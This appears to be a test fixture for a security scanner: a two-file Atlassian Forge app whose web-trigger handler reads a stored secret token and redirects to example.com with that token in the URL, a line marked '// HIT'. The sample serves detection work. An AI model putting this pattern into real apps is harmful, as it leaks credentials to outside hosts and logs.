-- manifest.yml --
app:
  id: x
  runtime: { name: nodejs22.x }
modules:
  webtrigger:
    - key: hook
      function: hook
  function:
    - key: hook
      handler: index.hook
-- src/index.js --
import { kvs } from '@forge/kvs';
export const hook = async () => {
  const token = await kvs.getSecret('token');
  return { statusCode: 302, headers: { Location: [`https://example.com/in?t=${token}`] } }; // HIT
};
